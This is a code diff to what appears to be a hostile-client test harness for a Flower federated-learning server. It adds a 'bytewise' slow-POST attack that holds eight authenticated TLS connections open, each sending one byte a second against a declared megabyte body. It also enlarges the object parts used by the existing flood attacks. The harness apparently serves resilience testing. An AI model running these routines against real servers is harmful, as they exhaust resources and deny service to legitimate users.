@@ -5,10 +5,15 @@ The attack is named in the environment. What it achieved is written beside its l
 
 import hashlib
 import os
+import socket
+import ssl
+import sys
 import time
+from base64 import b64encode
 from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import contextmanager
+from itertools import pairwise
 from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
@@ -16,13 +21,19 @@ from typing import Any
 import httpx
 from flwr.app import Error, Message
 from flwr.app.message import make_message
+from flwr.common.constant import TIMESTAMP_HEADER
 from flwr.proto.message_pb2 import ObjectTree
+from flwr.supercore.constant import FLEET_HTTP_PUBLIC_KEY_HEADER, FLEET_HTTP_SIGNATURE_HEADER
+from flwr.supercore.date import now
 from flwr.supercore.inflatable.inflatable_object import get_object_tree
+from flwr.supercore.primitives.asymmetric import public_key_to_bytes, sign_message
 from flwr.supernode import start_client_internal as internal
 from flwr.supernode.cli.flower_supernode import flower_supernode
 
+from fedaux.deploy.certificates import load_key
+
 ATTACK, REPORT, SIZE = "HOSTILE_ATTACK", "HOSTILE_REPORT", "HOSTILE_SIZE"  # in the environment
-PART = 5_000_000  # bytes of an object, as Flower cuts them
+PART = 7_500_000  # bytes of an object: 200 of them are 1.5 GB, and no more parts than a reply may have
 Send = Callable[[Message, ObjectTree, float], tuple[set[str], str]]
 Push = Callable[[int, str, str, bytes], None]
 
@@ -72,6 +83,46 @@ def drip(message: Message, tree: ObjectTree, send: Send, push: Push) -> str:
     return f"{number} drops"
 
 
+def bytewise(message: Message, tree: ObjectTree, send: Send, push: Push) -> str:
+    """A reply is begun, and of its objects a byte comes a second, on eight connections, for four minutes."""
+    send(message, tree, 0.0)
+    begun, options = time.monotonic(), dict(pairwise(sys.argv))
+    host, _, port = options["--superlink"].rpartition(":")
+    context = ssl.create_default_context(cafile=options["--root-certificates"])
+    key = load_key(Path(options["--auth-supernode-private-key"]))
+
+    def one(number: int) -> int:
+        """Seconds until the server hangs up, or answers."""
+        stamp, sent = now().isoformat(), 0
+        shown = {
+            FLEET_HTTP_PUBLIC_KEY_HEADER: b64encode(public_key_to_bytes(key.public_key())).decode(),
+            TIMESTAMP_HEADER: stamp,
+            FLEET_HTTP_SIGNATURE_HEADER: b64encode(sign_message(key, stamp.encode())).decode(),
+            "Host": host,
+            "Content-Type": "application/protobuf",
+            "Content-Length": "1000000",
+        }
+        head = ["POST /v1/fleet/push-object HTTP/1.1", *(f"{name}: {value}" for name, value in shown.items())]
+        plain = socket.create_connection((host, int(port)), 10)
+        with context.wrap_socket(plain, server_hostname=host) as made:
+            made.sendall("\r\n".join([*head, "", ""]).encode())
+            made.settimeout(1.0)
+            while sent < 240:
+                try:
+                    made.sendall(b"x")
+                    sent += 1
+                    made.recv(1)
+                    break
+                except TimeoutError:
+                    continue
+                except OSError:
+                    break
+        return round(time.monotonic() - begun)
+
+    with ThreadPoolExecutor(8) as pool:
+        return f"ended after {sorted(pool.map(one, range(8)))} s"
+
+
 def many(message: Message, tree: ObjectTree, send: Send, push: Push) -> str:
     """Up to 10⁵ small replies, as fast as eight connections can in a minute."""
     begun, answers = time.monotonic(), {"taken": 0, "refused": 0}
@@ -92,7 +143,7 @@ def many(message: Message, tree: ObjectTree, send: Send, push: Push) -> str:
     return f"{answers} in {time.monotonic() - begun:.0f} s"
 
 
-ATTACKS = {attack.__name__: attack for attack in (quiet, large, drip, many)}
+ATTACKS = {attack.__name__: attack for attack in (quiet, large, drip, bytewise, many)}
 
 
 @contextmanager
